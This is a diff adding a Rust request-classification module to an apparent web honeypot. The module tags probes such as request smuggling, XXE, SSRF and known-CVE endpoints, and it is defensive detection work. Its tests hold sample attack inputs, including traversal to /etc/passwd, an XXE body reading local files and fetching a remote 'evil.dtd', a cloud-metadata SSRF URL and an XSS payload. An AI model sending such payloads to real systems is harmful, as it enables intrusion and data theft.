@@ -0,0 +1,458 @@
+//! Classification tags noteworthy properties of requests, such as probes
+//! and protocol anomalies, for logging and metrics.
+use std::{collections::BTreeSet, fmt, net::IpAddr};
+
+use lazy_static::lazy_static;
+use regex::Regex;
+
+use crate::{
+    honeypot::{
+        bait,
+        deserialize::{self, Platform},
+        frameworks, nas, redirect, search, shell, ssrf, vpn,
+    },
+    http::request::Request,
+    util::{is_unreserved, percent_decode},
+};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum Tag {
+    /// request line used an absolute URI, as sent to proxies
+    AbsoluteForm,
+    /// the request line's host differs from the Host header
+    HostMismatch,
+    /// Host is an IP address rather than a name
+    IpLiteralHost,
+    /// framing which servers could disagree on, see
+    /// `Syntax::is_ambiguous_framing`
+    SmugglingProbe,
+    /// a header which may only appear once sent more than once, or sent
+    /// under names differing only in case, see `Syntax::duplicate_headers`
+    DuplicateHeaders,
+    /// such a header repeated with differing values, such as two
+    /// Content-Lengths
+    ConflictingHeaders,
+    /// percent-encoded CR or LF in the target, for response splitting
+    EncodedCrlf,
+    /// NUL in the target or headers, raw or encoded, for truncation
+    NullByte,
+    /// a percent-encoded overlong UTF-8 sequence, such as `%c0%af` for '/'
+    OverlongEncoding,
+    /// a percent-encoded percent sign followed by hex, such as `%252e`
+    DoubleEncoding,
+    /// a percent-encoded unreserved character in the path, such as
+    /// `/%61dmin`, which only hides it from naive matching
+    EncodedUnreserved,
+    /// a query parameter repeated outside of array syntax, see
+    /// `Query::polluted`
+    ParameterPollution,
+    /// a cross-site scripting payload in a query parameter, see
+    /// `honeypot::search`
+    XssProbe,
+    /// an off-site URL in a redirect-like query parameter, see
+    /// `honeypot::redirect`
+    OpenRedirect,
+    /// a URL for a proxy or fetcher endpoint to request, see
+    /// `honeypot::ssrf`
+    SsrfProbe,
+    /// control characters other than tab in header values
+    ControlChars,
+    /// a method tunneled through an override header or `_method` field
+    MethodOverride,
+    /// an XML body declaring entities or loading an external DTD, as in
+    /// XXE and entity expansion
+    Xxe,
+    /// a serialized Java object, see `honeypot::deserialize`
+    JavaDeserialization,
+    /// a serialized .NET object, including ViewState
+    DotNetDeserialization,
+    /// a shell command following a metacharacter in a query or form
+    /// field, see `honeypot::shell`
+    CommandInjection,
+    /// a bait file surfaced in fake listings, see `honeypot::bait`
+    BaitFile,
+    /// the endpoint or parameters of a known exploit, named by its CVE,
+    /// see the `cve` functions of `honeypot::nas`, `vpn`, and `frameworks`
+    Cve(&'static str),
+}
+
+impl Tag {
+    pub fn as_str(&self) -> &'static str {
+        use Tag::*;
+        match self {
+            AbsoluteForm => "absolute_form",
+            HostMismatch => "host_mismatch",
+            IpLiteralHost => "ip_literal_host",
+            SmugglingProbe => "smuggling_probe",
+            DuplicateHeaders => "duplicate_headers",
+            ConflictingHeaders => "conflicting_headers",
+            EncodedCrlf => "encoded_crlf",
+            NullByte => "null_byte",
+            OverlongEncoding => "overlong_encoding",
+            DoubleEncoding => "double_encoding",
+            EncodedUnreserved => "encoded_unreserved",
+            ParameterPollution => "parameter_pollution",
+            XssProbe => "xss_probe",
+            OpenRedirect => "open_redirect",
+            SsrfProbe => "ssrf_probe",
+            ControlChars => "control_chars",
+            MethodOverride => "method_override",
+            Xxe => "xxe",
+            JavaDeserialization => "java_deserialization",
+            DotNetDeserialization => "dotnet_deserialization",
+            CommandInjection => "command_injection",
+            BaitFile => "bait_file",
+            Cve(cve) => cve,
+        }
+    }
+
+    pub fn severity(&self) -> Severity {
+        match self {
+            Tag::BaitFile => Severity::High,
+            _ => Severity::Low,
+        }
+    }
+}
+
+/// How much attention a request deserves. High severity requests are
+/// logged as warnings.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Severity {
+    #[default]
+    Low,
+    /// nothing innocent does this, such as fetching a bait file
+    High,
+}
+
+/// the highest severity of the tags.
+pub fn severity(tags: &BTreeSet<Tag>) -> Severity {
+    tags.iter().map(Tag::severity).max().unwrap_or_default()
+}
+
+impl fmt::Display for Tag {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        write!(f, "{}", self.as_str())
+    }
+}
+
+pub fn classify(req: &Request) -> BTreeSet<Tag> {
+    let mut tags = BTreeSet::new();
+    let host = req.host_header().map(strip_port);
+
+    if req.is_absolute_form() {
+        tags.insert(Tag::AbsoluteForm);
+
+        match (&host, req.url.host_str()) {
+            (Some(host), Some(url_host)) if !host.eq_ignore_ascii_case(url_host) => {
+                tags.insert(Tag::HostMismatch);
+            }
+            _ => (),
+        }
+    }
+
+    if let Some(host) = &host {
+        if host
+            .trim_matches(|c| c == '[' || c == ']')
+            .parse::<IpAddr>()
+            .is_ok()
+        {
+            tags.insert(Tag::IpLiteralHost);
+        }
+    }
+
+    if req.syntax.is_ambiguous_framing() {
+        tags.insert(Tag::SmugglingProbe);
+    }
+    if !req.syntax.duplicate_headers().is_empty() {
+        tags.insert(Tag::DuplicateHeaders);
+    }
+    if !req.syntax.conflicting_headers().is_empty() {
+        tags.insert(Tag::ConflictingHeaders);
+    }
+
+    tags.extend(target_anomalies(&req.target));
+    let query = req.query();
+    if !query.polluted().is_empty() {
+        tags.insert(Tag::ParameterPollution);
+    }
+    if query.iter().any(|p| search::is_xss_probe(&p.value)) {
+        tags.insert(Tag::XssProbe);
+    }
+    if redirect::destination(req).is_some() {
+        tags.insert(Tag::OpenRedirect);
+    }
+    if ssrf::target(req).is_some() {
+        tags.insert(Tag::SsrfProbe);
+    }
+
+    if req.tunneled_method().is_some() {
+        tags.insert(Tag::MethodOverride);
+    }
+
+    if declares_entities(&req.body) || !external_references(&req.body).is_empty() {
+        tags.insert(Tag::Xxe);
+    }
+
+    match deserialize::detect(req).map(|p| p.platform) {
+        Some(Platform::Java) => tags.insert(Tag::JavaDeserialization),
+        Some(Platform::DotNet) => tags.insert(Tag::DotNetDeserialization),
+        None => false,
+    };
+
+    if shell::injection(req).is_some() {
+        tags.insert(Tag::CommandInjection);
+    }
+
+    if bait::is_bait(req.url.path()) {
+        tags.insert(Tag::BaitFile);
+    }
+    if let Some(cve) = nas::cve(req)
+        .or_else(|| vpn::cve(req))
+        .or_else(|| frameworks::cve(req))
+    {
+        tags.insert(Tag::Cve(cve));
+    }
+
+    let values = req.headers.iter().flat_map(|(_, v)| v.iter());
+    for value in values {
+        if value.contains('\0') {
+            tags.insert(Tag::NullByte);
+        }
+        if value.chars().any(|c| c.is_control() && c != '\t') {
+            tags.insert(Tag::ControlChars);
+        }
+    }
+
+    tags
+}
+
+/// tags encoding games in the raw request target.
+fn target_anomalies(target: &str) -> BTreeSet<Tag> {
+    let mut tags = BTreeSet::new();
+    let decoded = percent_decode(target);
+
+    if decoded.contains(&b'\r') || decoded.contains(&b'\n') {
+        tags.insert(Tag::EncodedCrlf);
+    }
+    if decoded.contains(&0) {
+        tags.insert(Tag::NullByte);
+    }
+
+    let overlong = decoded.windows(2).any(|w| {
+        matches!(
+            w,
+            [0xc0 | 0xc1, 0x80..=0xbf] | [0xe0, 0x80..=0x9f] | [0xf0, 0x80..=0x8f]
+        )
+    });
+    if overlong {
+        tags.insert(Tag::OverlongEncoding);
+    }
+
+    let lower = target.to_lowercase();
+    let double = lower.match_indices("%25").any(|(i, _)| {
+        lower[i + 3..]
+            .chars()
+            .take(2)
+            .filter(|c| c.is_ascii_hexdigit())
+            .count()
+            == 2
+    });
+    if double {
+        tags.insert(Tag::DoubleEncoding);
+    }
+
+    // routing sees the normalized path, so only the target shows these
+    let path = target.split('?').next().unwrap_or_default();
+    let unreserved = path.match_indices('%').any(|(i, _)| {
+        path.get(i + 1..i + 3)
+            .and_then(|h| u8::from_str_radix(h, 16).ok())
+            .is_some_and(is_unreserved)
+    });
+    if unreserved {
+        tags.insert(Tag::EncodedUnreserved);
+    }
+
+    tags
+}
+
+lazy_static! {
+    static ref ENTITY_DECL: Regex = Regex::new(r"(?i)<!ENTITY\s").unwrap();
+    /// external identifiers of entities and DTDs, capturing the system
+    /// literal
+    static ref EXTERNAL_ID: Regex = Regex::new(
+        r#"(?i)<!(?:ENTITY\s+(?:%\s*)?[^\s>]+|DOCTYPE\s+[^\s>\[]+)\s+(?:SYSTEM|PUBLIC\s+(?:"[^"]*"|'[^']*'))\s*(?:"([^"]*)"|'([^']*)')"#
+    )
+    .unwrap();
+}
+
+fn declares_entities(body: &[u8]) -> bool {
+    ENTITY_DECL.is_match(&String::from_utf8_lossy(body))
+}
+
+/// the URIs of external entities and DTDs referenced by an XML body, such
+/// as XXE callback URLs and local files.
+pub fn external_references(body: &[u8]) -> Vec<String> {
+    EXTERNAL_ID
+        .captures_iter(&String::from_utf8_lossy(body))
+        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
+        .map(|m| m.as_str().to_string())
+        .collect()
+}
+
+/// strips the port from a Host header value, handling bracketed IPv6.
+fn strip_port(host: &str) -> &str {
+    let host = host.trim();
+    match host.rsplit_once(':') {
+        Some((h, port)) if port.chars().all(|c| c.is_ascii_digit()) && !h.ends_with(':') => h,
+        _ => host,
+    }
+}
+
+/// renders tags as a comma separated list for logging.
+pub fn tag_list(tags: &BTreeSet<Tag>) -> String {
+    tags.iter()
+        .map(|t| t.as_str())
+        .collect::<Vec<_>>()
+        .join(",")
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::http::request::parse_request;
+    use tokio::io::BufReader;
+
+    async fn parse(input: &str) -> Request {
+        let peer = "127.0.0.1:8000".parse().unwrap();
+        parse_request(&peer, &mut BufReader::new(input.as_bytes()))
+            .await
+            .unwrap()
+    }
+
+    #[test]
+    fn test_target_anomalies() {
+        let cases = vec![
+            ("/index.html?q=a%20b", vec![]),
+            (
+                "/redirect?to=%0d%0aSet-Cookie:%20x=1",
+                vec![Tag::EncodedCrlf],
+            ),
+            ("/download?file=shell.php%00.jpg", vec![Tag::NullByte]),
+            (
+                "/cgi-bin/%c0%af..%c0%af..%c0%afetc/passwd",
+                vec![Tag::OverlongEncoding],
+            ),
+            (
+                "/%252e%252e/%252e%252e/etc/passwd",
+                vec![Tag::DoubleEncoding],
+            ),
+            ("/100%25", vec![]),
+            ("/%61dmin/", vec![Tag::EncodedUnreserved]),
+            ("/search?q=%61", vec![]),
+        ];
+
+        for (target, expected) in cases {
+            assert_eq!(
+                expected.into_iter().collect::<BTreeSet<_>>(),
+                target_anomalies(target),
+                "target: {}",
+                target
+            );
+        }
+    }
+
+    #[test]
+    fn test_external_references() {
+        let body = br#"<?xml version="1.0"?>
+<!DOCTYPE foo [
+  <!ENTITY xxe SYSTEM "file:///etc/passwd">
+  <!ENTITY % remote PUBLIC "-//x//EN" 'http://203.0.113.9:8000/evil.dtd'>
+  <!ENTITY safe "text">
+]>
+<foo>&xxe;</foo>"#;
+        assert!(declares_entities(body));
+        assert_eq!(
+            vec!["file:///etc/passwd", "http://203.0.113.9:8000/evil.dtd"],
+            external_references(body)
+        );
+
+        let body = br#"<!DOCTYPE svc SYSTEM "http://oast.example/x.dtd"><svc/>"#;
+        assert!(!declares_entities(body));
+        assert_eq!(vec!["http://oast.example/x.dtd"], external_references(body));
+
+        assert!(external_references(b"<a>plain</a>").is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_host_tags() {
+        let cases = vec![
+            ("GET / HTTP/1.1\r\nHost: example.com\r\n\r\n", vec![]),
+            (
+                "GET / HTTP/1.1\r\nHost: 203.0.113.7:8080\r\n\r\n",
+                vec![Tag::IpLiteralHost],
+            ),
+            (
+                "GET / HTTP/1.1\r\nHost: [2001:db8::1]:443\r\n\r\n",
+                vec![Tag::IpLiteralHost],
+            ),
+            (
+                "GET http://example.com/ HTTP/1.1\r\nHost: Example.com\r\n\r\n",
+                vec![Tag::AbsoluteForm],
+            ),
+            (
+                "GET http://internal.example.com/ HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n",
+                vec![Tag::AbsoluteForm, Tag::HostMismatch, Tag::IpLiteralHost],
+            ),
+            (
+                "POST / HTTP/1.1\r\nHost: a.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+                vec![Tag::SmugglingProbe],
+            ),
+            (
+                "GET / HTTP/1.1\r\nHost: a.com\r\nhost: a.com\r\n\r\n",
+                vec![Tag::DuplicateHeaders],
+            ),
+            (
+                "GET / HTTP/1.1\r\nHost: a.com\r\nHost: b.com\r\n\r\n",
+                vec![Tag::DuplicateHeaders, Tag::ConflictingHeaders],
+            ),
+            (
+                "GET /item?id=1&id=2%20OR%201=1 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![Tag::ParameterPollution],
+            ),
+            (
+                "GET /items?id[]=1&id[]=2 HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![],
+            ),
+            (
+                "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![Tag::XssProbe],
+            ),
+            (
+                "GET /login?next=//evil.example HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![Tag::OpenRedirect],
+            ),
+            (
+                "GET /fetch?u=http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![Tag::SsrfProbe],
+            ),
+            (
+                "GET /photo/p/api/album.php HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![Tag::Cve("CVE-2019-7192")],
+            ),
+            (
+                "GET /sslmgr?scep-profile-name=%25p%25p HTTP/1.1\r\nHost: a.com\r\n\r\n",
+                vec![Tag::Cve("CVE-2019-1579")],
+            ),
+        ];
+
+        for (input, expected) in cases {
+            let tags = classify(&parse(input).await);
+            assert_eq!(
+                expected.into_iter().collect::<BTreeSet<_>>(),
+                tags,
+                "input: {:?}",
+                input
+            );
+        }
+    }
+}